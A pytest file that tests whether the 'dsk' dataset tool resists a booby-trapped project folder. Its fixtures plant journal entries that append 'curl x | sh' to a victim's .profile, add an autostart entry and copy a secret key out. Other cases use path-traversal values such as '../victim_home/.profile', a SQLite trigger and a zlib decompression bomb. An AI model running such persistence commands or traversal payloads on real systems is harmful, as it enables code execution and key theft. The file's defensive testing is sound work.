"""A folder from somebody else: what its `.dsk/` says never leads out of it, and nothing that was
interrupted elsewhere is completed unasked.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import sqlite3
import stat
import tracemalloc
import zlib
from contextlib import closing, suppress
from pathlib import Path

import pytest

from datasetkit import api
from datasetkit.core.errors import InputError, PlanConflict, StorageError, UnsignedEntry
from datasetkit.core.files import read_existing
from datasetkit.dataset.layout_sources import layout_sources
from datasetkit.project import journal, signature
from datasetkit.project.plans import Copy, Link, Move, Plan, WriteText
from datasetkit.project.session import RunContext, open_project
from datasetkit.project.store import Output, Store
from tests.cli.conftest import dsk, here, images, toy_tagger  # noqa: F401 - fixtures

SECRET = b"a private key\n"
PROFILE = b"# the distribution's default\n"
POSIX = pytest.mark.skipif(os.name != "posix", reason="modes are those of POSIX")


@pytest.fixture
def state(tmp_path, monkeypatch):
    """The state folder of a user who has not run dsk before."""
    folder = tmp_path / "state"
    monkeypatch.setenv("XDG_STATE_HOME", str(folder))
    return folder


@pytest.fixture
def victim(tmp_path):
    """The home folder of the user, beside the downloaded folder."""
    home = tmp_path / "victim_home"
    home.mkdir()
    (home / ".profile").write_bytes(PROFILE)
    (home / "secret.key").write_bytes(SECRET)
    return home


@pytest.fixture
def downloaded(here):  # noqa: F811
    """A folder of images as somebody else made it."""
    folder = here / "downloaded"
    images(folder, 2)
    for path in folder.glob("*.png"):
        path.with_suffix(".txt").write_text("1girl, smile\n", encoding="utf-8")
    return folder


def tree(folder: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in sorted(folder.rglob("*"))
        if path.is_file() and ".dsk" not in path.parts
    }


def plant(folder: Path, rows, *, state="open", phase="prepare", verb="rules") -> None:
    """Write an entry into the journal of a folder, as somebody else could."""
    with Store.open(folder) as store, store.transaction() as database:
        cursor = database.execute(
            "INSERT INTO journal (verb, title, started, state, phase) VALUES (?, '', 1, ?, ?)",
            (verb, state, phase),
        )
        for n, (kind, src, dst, before, after, stamp) in enumerate(rows):
            database.execute(
                "INSERT INTO ops VALUES (?, ?, ?, ?, ?, ?, ?, ?, NULL)",
                (cursor.lastrowid, n, kind, src, dst, before, after, stamp),
            )


def attack(folder: Path, home: Path):
    """The operations that run code at the next login and take a key."""
    up = os.fsencode(os.path.relpath(home, folder))
    profile = os.fsencode(home / ".profile")
    return [
        ("write", None, up + b"/.config/autostart/x.desktop", None, b"[Desktop Entry]\n", ""),
        ("write", None, profile, PROFILE, PROFILE + b"curl x | sh\n", ""),
        ("copy", os.fsencode(home / "secret.key"), b"taken.png", None, None, ""),
    ]


COMMANDS = (
    ("report", "downloaded"),
    ("check", "downloaded"),
    ("tag", "downloaded"),
    ("rules", "downloaded", "--exclude", "smile"),
    ("rename", "downloaded", "x"),
    ("layout", "2_x=downloaded", "--out", "downloaded"),
    ("resize", "downloaded", "--in-place"),
    ("undo", "downloaded"),
    ("export", "downloaded"),
)


@pytest.mark.parametrize("arguments", COMMANDS, ids=lambda arguments: arguments[0])
@pytest.mark.parametrize("with_secret", [False, True], ids=["new user", "known user"])
def test_no_command_runs_the_plan_of_somebody_else(
    arguments,
    with_secret,
    downloaded,
    victim,
    state,
    dsk,  # noqa: F811
):
    if with_secret:
        signature.Signer(downloaded).sign((), "")
    plant(downloaded, attack(downloaded, victim))
    before, home = tree(downloaded), tree(victim)
    ended = dsk(*arguments)
    assert ended.code == 2, ended
    assert "dsk history --recover" in ended.err
    assert "dsk history --forget" in ended.err
    assert tree(victim) == home
    assert tree(downloaded) == before


@pytest.mark.parametrize("phase", ["prepare", "move", "place", "nonsense"])
def test_a_plan_inside_the_folder_is_not_run_either(phase, downloaded, state, dsk):  # noqa: F811
    plant(downloaded, [("write", None, b"a1.txt", b"1girl, smile\n", b"bad\n", "")], phase=phase)
    before = tree(downloaded)
    assert dsk("rules", "downloaded", "--exclude", "smile").code == 2
    assert tree(downloaded) == before


def test_recover_shows_the_operations_and_refuses_to_lead_out_of_the_folder(
    downloaded,
    victim,
    state,
    dsk,  # noqa: F811
):
    plant(downloaded, attack(downloaded, victim))
    home = tree(victim)
    ended = dsk("history", "downloaded", "--recover", "--yes")
    assert ended.code == 2
    assert ".config/autostart/x.desktop" in ended.err
    assert "outside of the project" in ended.err
    assert tree(victim) == home


def test_recover_asks_and_completes_what_lies_inside(downloaded, state, dsk):  # noqa: F811
    name = min(p.name for p in downloaded.glob("*.txt"))
    operation = ("write", None, name.encode(), b"1girl, smile\n", b"1girl\n", "")
    plant(downloaded, [operation])
    ended = dsk("history", "downloaded", "--recover")
    assert ended.code == 2
    assert name in ended.err
    assert "--yes" in ended.err
    assert (downloaded / name).read_bytes() == b"1girl, smile\n"
    assert dsk("history", "downloaded", "--recover", "--yes").code == 0
    assert (downloaded / name).read_bytes() == b"1girl\n"
    assert dsk("undo", "downloaded").code == 0
    assert (downloaded / name).read_bytes() == b"1girl, smile\n"


def test_forget_drops_the_plan_and_work_goes_on(downloaded, victim, state, dsk):  # noqa: F811
    plant(downloaded, attack(downloaded, victim))
    home = tree(victim)
    assert dsk("history", "downloaded", "--forget", "--yes").code == 0
    assert "forgotten" in dsk("history", "downloaded").out
    assert dsk("rules", "downloaded", "--exclude", "smile").code == 0
    assert dsk("undo", "downloaded").code == 0
    assert tree(victim) == home


def test_forget_names_the_files_that_keep_a_temporary_name(downloaded, state, dsk):  # noqa: F811
    (downloaded / ".dsk-move-1").write_bytes(b"an image")
    plant(downloaded, [("move", b"b.png", b"c.png", None, None, "")], phase="place")
    with sqlite3.connect(downloaded / ".dsk/store.sqlite") as database:
        database.execute("UPDATE ops SET temp = ?", (b".dsk-move-1",))
    database.close()
    ended = dsk("history", "downloaded", "--forget", "--yes")
    assert ended.code == 0
    assert ".dsk-move-1" in ended.err
    assert (downloaded / ".dsk-move-1").read_bytes() == b"an image"


@pytest.mark.parametrize(
    "operation",
    [
        lambda home: ("write", None, os.fsencode(home / ".profile"), b"evil\n", PROFILE, ""),
        lambda home: ("write", None, b"../victim_home/.profile", b"evil\n", PROFILE, ""),
        lambda home: ("write", None, b"a/../../victim_home/.profile", b"evil\n", PROFILE, ""),
        lambda home: ("write", None, b"out/.profile", b"evil\n", PROFILE, ""),
        lambda home: ("made", None, os.fsencode(home / "secret.key"), None, None, "stamp"),
        lambda home: ("move", os.fsencode(home / ".bashrc"), b"a1.txt", None, None, ""),
    ],
    ids=["absolute", "climbing", "climbing inside", "through a link", "made", "moved out"],
)
def test_undo_of_somebody_else_s_command_stays_inside(operation, downloaded, victim, state):
    (downloaded / "out").symlink_to(victim)
    kind, src, dst, before, after, stamp = operation(victim)
    target = downloaded / os.fsdecode(dst)
    if kind == "write":
        stamp = _text_stamp(after)
    elif kind == "made":
        info = os.lstat(target)
        stamp = f"{info.st_size}:{info.st_mtime_ns}"
    plant(downloaded, [(kind, src, dst, before, after, stamp)], state="done", phase="")
    files, home = tree(downloaded), tree(victim)
    with pytest.raises((PlanConflict, InputError), match="outside of the project"):
        api.undo(downloaded)
    with suppress(InputError):  # dsk never writes `..`: nothing of such an entry is used
        api.undo(downloaded, partial=True)
    assert tree(victim) == home
    assert tree(downloaded) == files


def test_the_journal_s_list_of_folders_removes_none_outside(downloaded, victim, state):
    (victim / "empty").mkdir()
    plant(downloaded, [("made", None, b"new.txt", None, None, "gone")], state="done", phase="")
    (downloaded / "new.txt").write_bytes(b"x")
    with sqlite3.connect(downloaded / ".dsk/store.sqlite") as database:
        database.execute("UPDATE ops SET stamp = ?", (_text_stamp(b"x"),))
        for n, key in enumerate((os.fsencode(victim / "empty"), b"../victim_home/empty")):
            database.execute("INSERT INTO dirs VALUES (1, ?, ?)", (n, key))
    database.close()
    api.undo(downloaded)
    assert not (downloaded / "new.txt").exists()
    assert (victim / "empty").is_dir()


def _text_stamp(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


@pytest.mark.parametrize("name", ["trash", "originals", "stage", "replaced-1", "thumbs", "lock"])
def test_a_link_in_the_project_folder_is_refused(name, downloaded, victim, state):
    (downloaded / ".dsk").mkdir()
    (downloaded / ".dsk" / name).symlink_to(victim)
    with pytest.raises(InputError, match="symbolic link"), open_project(downloaded, RunContext()):
        pass
    assert set(tree(victim)) == {".profile", "secret.key"}


def test_a_link_below_the_trash_is_refused(downloaded, victim, state):
    write(downloaded, "a.txt", "one\n")
    (downloaded / ".dsk" / "trash").mkdir()
    (downloaded / ".dsk" / "trash" / "1").symlink_to(victim)
    with pytest.raises(InputError, match="symbolic link"):
        api.undo(downloaded)
    assert set(tree(victim)) == {".profile", "secret.key"}


@pytest.mark.parametrize("suffix", ["", "-wal", "-shm"])
def test_the_store_is_not_read_through_links(suffix, downloaded, victim, state):
    with Store.open(downloaded):
        pass
    path = downloaded / f".dsk/store.sqlite{suffix}"
    path.unlink(missing_ok=True)
    path.symlink_to(victim / ".profile")
    for opened in (Store.open, Store.open_copy):
        with pytest.raises(InputError, match="symbolic link"):
            opened(downloaded)
    assert (victim / ".profile").read_bytes() == PROFILE


def test_a_rollback_journal_that_names_another_file_is_refused(downloaded, victim, state):
    with Store.open(downloaded):
        pass
    magic = bytes.fromhex("d9d505f920a163d7")
    (downloaded / ".dsk/store.sqlite-journal").write_bytes(b"/victim_home/.profile" + magic)
    with pytest.raises(InputError, match="was not written by dsk"):
        Store.open(downloaded)


def test_a_store_with_a_trigger_is_refused(downloaded, state):
    with Store.open(downloaded) as store:
        store.database.execute(
            "CREATE TRIGGER t AFTER INSERT ON journal BEGIN INSERT INTO ops VALUES "
            "(new.id, 99, 'write', NULL, '../x', NULL, 'x', '', NULL); END"
        )
    with pytest.raises(InputError, match="it has a trigger or a view"):
        Store.open(downloaded)


JOURNAL = (
    "verb TEXT, title TEXT, started REAL, state TEXT, phase TEXT, undoes INTEGER, signature BLOB"
)


@pytest.mark.parametrize(
    "table",
    [
        f"journal (id, {JOURNAL})",
        f"journal (id INTEGER PRIMARY KEY DESC, {JOURNAL})",
        f"journal (id INTEGER PRIMARY KEY, {JOURNAL}) WITHOUT ROWID",
        f"journal (id AS (verb), {JOURNAL})",
        "pragma_table_xinfo (name)",
    ],
)
def test_a_store_with_other_tables_is_refused(table, downloaded, victim, state):
    """The number of an entry is a part of paths: it must not be a text such as `../..`."""
    write(downloaded, "new.txt", "1girl\n")
    with closing(sqlite3.connect(downloaded / ".dsk/store.sqlite")) as database:
        if table.startswith("journal"):
            database.execute("DROP TABLE journal")
        database.execute(f"CREATE TABLE {table}")
        database.commit()
    before = tree(victim.parent)
    with pytest.raises(InputError, match="its tables are others"):
        api.undo(downloaded)
    assert tree(victim.parent) == before


def test_no_command_writes_through_a_link_that_came_with_the_folder(downloaded, victim, dsk, state):  # noqa: F811
    theirs = victim / "train" / "2_x"
    images(theirs, 1)
    (theirs / "a1.txt").write_text("sks, sks, 1girl\n", encoding="utf-8")
    laid_out = downloaded.with_name("laid_out")
    laid_out.mkdir()
    for folder in (laid_out, downloaded):
        (folder / "train").symlink_to(victim / "train")
    (downloaded / "report").symlink_to(victim)
    (downloaded / "work").symlink_to(victim)
    (downloaded / "dsk.toml").write_text(
        "[run]\nsteps = ['resize']\n[[concept]]\nfolder = '.'\nname = 'x'\n", encoding="utf-8"
    )
    before = tree(victim)
    for command in (
        ("check", "laid_out", "--fix"),
        ("export", "laid_out", "--format", "imagefolder"),
        ("layout", "3_x=downloaded", "--out", "downloaded"),
        ("layout", "3_y=downloaded", "--out", "downloaded"),
        ("report", "downloaded"),
        ("run", "downloaded"),
    ):
        ended = dsk(*command)
        assert ended.code == 2 and "is a symbolic link" in ended.err, (command, ended)
        assert tree(victim) == before, command


@pytest.mark.parametrize("key", [b"../x.png", b"a/../../x.png", b"a\0b", "text", 5, None])
def test_outputs_that_dsk_cannot_have_listed_are_left_out(key, downloaded, state):
    with Store.open(downloaded) as store:
        store.put_pending([Output(downloaded / "ok.png", "id", "resize-1", downloaded / "a.png")])
        with store.transaction() as database:
            row = "INSERT INTO outputs VALUES (?, 's', 'resize-1', ?, 1, 1)"
            database.execute(row, (key, b"a.png"))
            database.execute(row, (b"other.png", key))
        assert [o.output.path.name for o in store.stored_outputs()] == ["ok.png"]


@pytest.mark.parametrize("key", [b"/etc/passwd", b"../x", b"a/../../x", b"a\0b", "text", 5])
def test_a_stored_path_never_leads_out(key, downloaded, state):
    with Store.open(downloaded) as store, pytest.raises(InputError, match="outside"):
        store.path(key)


def test_somebody_else_s_layout_names_no_images_outside(downloaded, victim, state):
    inside = ("link", b"a1.png", b"train/2_x/a1.png", None, None, "")
    outside = ("link", os.fsencode(victim / "secret.key"), b"train/2_x/b.png", None, None, "")
    climbing = ("link", b"../victim_home/secret.key", b"train/2_x/c.png", None, None, "")
    plant(downloaded, [inside, outside, climbing], state="done", phase="", verb="layout")
    sources = layout_sources([downloaded])
    assert sources == {downloaded / "train/2_x/a1.png": downloaded / "a1.png"}


@POSIX
def test_the_group_of_a_shared_folder_can_write_the_store(downloaded, state):
    downloaded.chmod(0o2775)
    write(downloaded, "a.txt", "x\n")
    for name in ("lock", "store.sqlite"):
        assert stat.S_IMODE((downloaded / ".dsk" / name).stat().st_mode) == 0o660


# ---- what this user did


def write(folder: Path, name: str, text: str) -> int | None:
    with open_project(folder, RunContext()) as project:
        return project.apply(
            Plan((WriteText(folder / name, text, read_existing(folder / name)),)), "rules"
        )


def interrupt(folder: Path, plan: Plan, monkeypatch: pytest.MonkeyPatch) -> None:
    """Apply a plan in a process that ends before the last phase."""
    from datasetkit.project import journal

    with monkeypatch.context() as patched:

        def end(op):
            raise KeyboardInterrupt

        patched.setattr(journal, "place", end)
        with pytest.raises(KeyboardInterrupt), open_project(folder, RunContext()) as project:
            project.apply(plan, "report")


def test_a_plan_of_this_user_is_completed_also_outside_of_the_project(
    downloaded, tmp_path, state, monkeypatch
):
    interrupt(downloaded, Plan((WriteText(tmp_path / "report/x.csv", "x\n", None),)), monkeypatch)
    assert not (tmp_path / "report/x.csv").exists()
    write(downloaded, "b.txt", "b\n")
    assert (tmp_path / "report/x.csv").read_bytes() == b"x\n"
    api.undo(downloaded, 1)
    assert not (tmp_path / "report").exists()


@pytest.mark.parametrize(
    "change",
    [
        "UPDATE ops SET dst = x'2e2e2f78'",
        "UPDATE ops SET after = x'6576696c'",
        "UPDATE ops SET kind = 'made'",
        "UPDATE ops SET temp = x'612e706e67'",
        "UPDATE journal SET verb = 'rename'",
        "UPDATE journal SET undoes = 7",
        "UPDATE journal SET signature = NULL",
        "UPDATE journal SET signature = 'text'",
        "INSERT INTO ops VALUES (1, 9, 'write', NULL, x'2e2e2f78', NULL, x'78', '', NULL)",
        "UPDATE ops SET entry = 3; UPDATE journal SET id = 3",
    ],
)
def test_a_changed_entry_has_no_valid_signature(change, downloaded, state, monkeypatch):
    interrupt(downloaded, Plan((WriteText(downloaded / "new.txt", "x\n", None),)), monkeypatch)
    with sqlite3.connect(downloaded / ".dsk/store.sqlite") as database:
        database.executescript(change)
    database.close()
    with pytest.raises(UnsignedEntry), open_project(downloaded, RunContext()):
        pass
    assert not (downloaded / "new.txt").exists()


def test_a_dropped_entry_that_is_opened_again_has_no_valid_signature(
    downloaded, state, monkeypatch
):
    def full(*_, **__):
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patched, pytest.raises(StorageError):
        patched.setattr(journal, "make_temp", full)
        write(downloaded, "new.txt", "1girl\n")
    with Store.open(downloaded) as store, store.transaction() as database:
        database.execute("UPDATE journal SET state = 'open', phase = 'prepare'")
    with pytest.raises(UnsignedEntry):
        write(downloaded, "other.txt", "1girl\n")
    assert not (downloaded / "new.txt").exists()


def test_a_finished_entry_that_is_opened_again_has_no_valid_signature(downloaded, state):
    write(downloaded, "new.txt", "x\n")
    with sqlite3.connect(downloaded / ".dsk/store.sqlite") as database:
        database.execute("UPDATE journal SET state = 'open', phase = 'prepare'")
    database.close()
    with pytest.raises(UnsignedEntry), open_project(downloaded, RunContext()):
        pass


@pytest.mark.parametrize("how", ["moved", "copied", "state lost", "other user"])
def test_a_moved_project_keeps_its_undo_but_completes_nothing_unasked(
    how, downloaded, state, monkeypatch
):
    write(downloaded, "new.txt", "one\n")
    interrupt(
        downloaded, Plan((WriteText(downloaded / "new.txt", "two\n", b"one\n"),)), monkeypatch
    )
    goal = downloaded.with_name("goal")
    if how == "moved":
        downloaded.rename(goal)
    elif how == "copied":
        shutil.copytree(downloaded, goal)
    else:
        goal = downloaded
        shutil.rmtree(state)
        if how == "other user":
            signature.Signer(goal).sign((), "")
    with pytest.raises(UnsignedEntry, match="moved or copied"):
        api.undo(goal)
    [command] = api.interrupted(goal)
    assert not command.signed
    assert command.outside == ()
    api.forget(goal, [command.entry.id])
    api.undo(goal)
    assert not (goal / "new.txt").exists()


def test_a_stage_s_outputs_are_signed_as_they_are_made(downloaded, state):
    with open_project(downloaded, RunContext()) as project:
        with project.journal.recording("resize", "x") as entry:
            for name in ("m1.png", "m2.png"):
                (downloaded / name).write_bytes(b"x")
                entry.record(Output(downloaded / name, "id", "resize-1", downloaded / "a.png"))
                assert project.journal.is_signed(1)
        assert project.journal.is_signed(1)
    api.undo(downloaded)
    assert not (downloaded / "m1.png").exists()


def test_all_kinds_of_operations_are_signed(downloaded, tmp_path, state):
    first, *_ = sorted(downloaded.glob("*.png"))
    with open_project(downloaded, RunContext()) as project:
        project.apply(
            Plan(
                (
                    Copy(first, tmp_path / "out/copy.png"),
                    Link(first, tmp_path / "out/link.png"),
                    Move(first.with_suffix(".txt"), tmp_path / "out/moved.txt"),
                    WriteText(tmp_path / "out/text.txt", "x\n", None),
                )
            ),
            "layout",
        )
        assert project.journal.is_signed(1)
    api.undo(downloaded)
    assert not (tmp_path / "out").exists()
    assert first.with_suffix(".txt").exists()


# ---- the secret


@POSIX
def test_the_secret_is_made_on_first_use_for_this_user_alone(downloaded, state):
    assert not state.exists()
    write(downloaded, "a.txt", "x\n")
    [secret] = (state / "datasetkit").iterdir()
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600
    assert stat.S_IMODE(secret.parent.stat().st_mode) == 0o700
    data = secret.read_bytes()
    write(downloaded, "b.txt", "x\n")
    assert secret.read_bytes() == data


def test_where_no_secret_can_be_kept_commands_work_and_say_what_that_means(
    downloaded,
    tmp_path,
    monkeypatch,
    dsk,  # noqa: F811
):
    (tmp_path / "file").write_bytes(b"")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    ended = dsk("rules", "downloaded", "--exclude", "smile")
    assert ended.code == 0
    assert ended.err.count("is not signed") == 1
    assert "dsk history --recover" in ended.err
    assert "is not signed" not in dsk("rules", "downloaded", "--exclude", "smile").err
    assert dsk("undo", "downloaded").code == 0
    assert all(p.read_text() == "1girl, smile\n" for p in downloaded.glob("*.txt"))
    interrupt(downloaded, Plan((WriteText(downloaded / "new.txt", "x\n", None),)), monkeypatch)
    assert dsk("rules", "downloaded").code == 2


@POSIX
@pytest.mark.parametrize(
    ("folder", "existing", "wanted"),
    [
        (0o755, None, 0o700),
        (0o700, None, 0o700),
        (0o775, None, 0o2770),
        (0o2775, None, 0o2770),
        (0o755, 0o755, 0o700),
        (0o775, 0o777, 0o2770),
    ],
)
def test_the_project_folder_is_for_its_user_or_group(folder, existing, wanted, downloaded, state):
    downloaded.chmod(folder)
    if existing is not None:
        (downloaded / ".dsk").mkdir()
        (downloaded / ".dsk").chmod(existing)
    write(downloaded, "a.txt", "x\n")
    assert stat.S_IMODE((downloaded / ".dsk").stat().st_mode) == wanted


LABELS = {
    "bomb": zlib.compress(b" " * 300_000_000),
    "nested": zlib.compress(b"[" * 100_000),
    "no list": zlib.compress(b'{"a": 1}'),
    "no names": zlib.compress(b"[[1, 2]]"),
    "not packed": b"\0" * 100,
    "text": "labels",
}


@pytest.mark.parametrize("name", LABELS)
def test_labels_in_a_store_cost_little_and_are_checked(name, downloaded, state, dsk):  # noqa: F811
    assert dsk("tag", "downloaded", "--tagger", "basic", "--existing", "overwrite").code == 0
    with sqlite3.connect(downloaded / ".dsk" / "store.sqlite") as database:
        database.execute("UPDATE models SET labels = ?", (LABELS[name],))
    tracemalloc.start()
    ended = dsk("scores", "downloaded/a1.png")
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert ended.code == 13 and "delete .dsk/store.sqlite" in ended.err
    assert peak < 60_000_000


@pytest.mark.parametrize("row", [5, None, "text"])
def test_scores_that_dsk_cannot_have_written_are_made_again(row, downloaded, state):
    with Store.open(downloaded) as store:
        store.put_scores("tagger", [("image", b"packed"), ("other", b"packed")])
        with store.transaction() as database:
            database.execute("UPDATE scores SET row = ? WHERE image = 'image'", (row,))
        assert store.scores("image", "tagger") is None
        assert store.scores_of(["image", "other"], "tagger") == {"other": b"packed"}
        assert store.scored("tagger") == {"other"}


@pytest.mark.parametrize("row", [b"[", b"[[1]]", b"[[[]]]", b'["x"]', b"[" * 100_000, b"{}"])
def test_measurements_in_a_store_are_checked(row, downloaded, state, dsk):  # noqa: F811
    assert dsk("check", "downloaded").code == 0
    with sqlite3.connect(downloaded / ".dsk" / "store.sqlite") as database:
        assert database.execute("UPDATE measurements SET row = ?", (row,)).rowcount
        database.execute("DELETE FROM kept_results")
    ended = dsk("check", "downloaded")
    assert ended.code == 13 and "delete .dsk/store.sqlite" in ended.err


@pytest.mark.parametrize("words", ["[", "5", '{"a": 1}', "[1]", "[" * 100_000, b"x", None, '"sks"'])
def test_triggers_in_a_store_are_checked(words, downloaded, state):
    with Store.open(downloaded) as store:
        with store.transaction():
            store.insert_triggers({downloaded: ["sks"]}, 7)
        assert list(store.triggers_of(7).values()) == [["sks"]]
        with store.transaction() as database:
            database.execute("UPDATE trigger_words SET words = ?", (words,))
        with pytest.raises(StorageError) as caught:
            store.triggers_of(7)
    assert "\n" not in caught.value.message and "delete .dsk/store.sqlite" in caught.value.hint
